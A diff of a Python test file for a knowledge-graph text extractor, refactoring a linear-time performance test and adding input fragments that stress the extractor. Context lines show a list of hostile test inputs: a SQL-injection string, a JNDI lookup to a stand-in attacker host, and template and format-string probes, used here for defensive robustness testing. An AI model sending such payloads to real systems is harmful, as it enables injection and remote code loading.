@@ -3,7 +3,6 @@
 import ast
 import csv
 import json
-import time
 import zipfile
 from collections.abc import Callable, Sequence
 from contextlib import suppress
@@ -14,6 +13,7 @@ import numpy as np
 import pyoxigraph as ox
 import pytest
 import rdflib
+from growth import LINEAR, growth, over_and_over
 
 import kg
 from kg.errors import InputError, KgError, PipelineError
@@ -40,6 +40,11 @@ HOSTILE = [
     "'; DROP TABLE paper; --",
     "${jndi:ldap://evil.example/a} {{7*7}} %s %n",
 ]
+
+
+@pytest.fixture(scope="module")
+def rules() -> Extractor:
+    return Extractor("rules")
 
 
 @pytest.fixture(scope="module")
@@ -232,21 +237,17 @@ BOMBS = {
     "names": "A, ",
     "spaces": " ",
     "marks": "e\u0301",
+    "definitions": "x (X) ",
+    "short names": "GAN ",
+    "letters": "A",
+    "hyphens": "a-",
+    "lines": "\n",
+    "numbered lists": "1.",
+    "abbreviations": "et al. ",
 }
 
 
 @pytest.mark.slow
 @pytest.mark.parametrize("piece", BOMBS.values(), ids=BOMBS)
-def test_time_grows_with_the_length_alone(piece: str) -> None:
-    """Twice the text, about twice the time: at most eight times for four times, where quadratic time is sixteen."""
-    extractor = Extractor("rules")
-    list(extractor.extract(["Warm up."]))
-
-    def seconds(length: int) -> float:
-        text = (piece * (length // len(piece) + 1))[:length]
-        start = time.process_time()
-        [found] = extractor.extract([text])
-        to_json(found)
-        return time.process_time() - start
-
-    assert seconds(120_000) < max(8 * seconds(30_000), 1.0)
+def test_time_grows_with_the_length_alone(rules: Extractor, piece: str) -> None:
+    assert growth(lambda text: to_json(*rules.extract([text])), over_and_over(piece), 12_000) < LINEAR
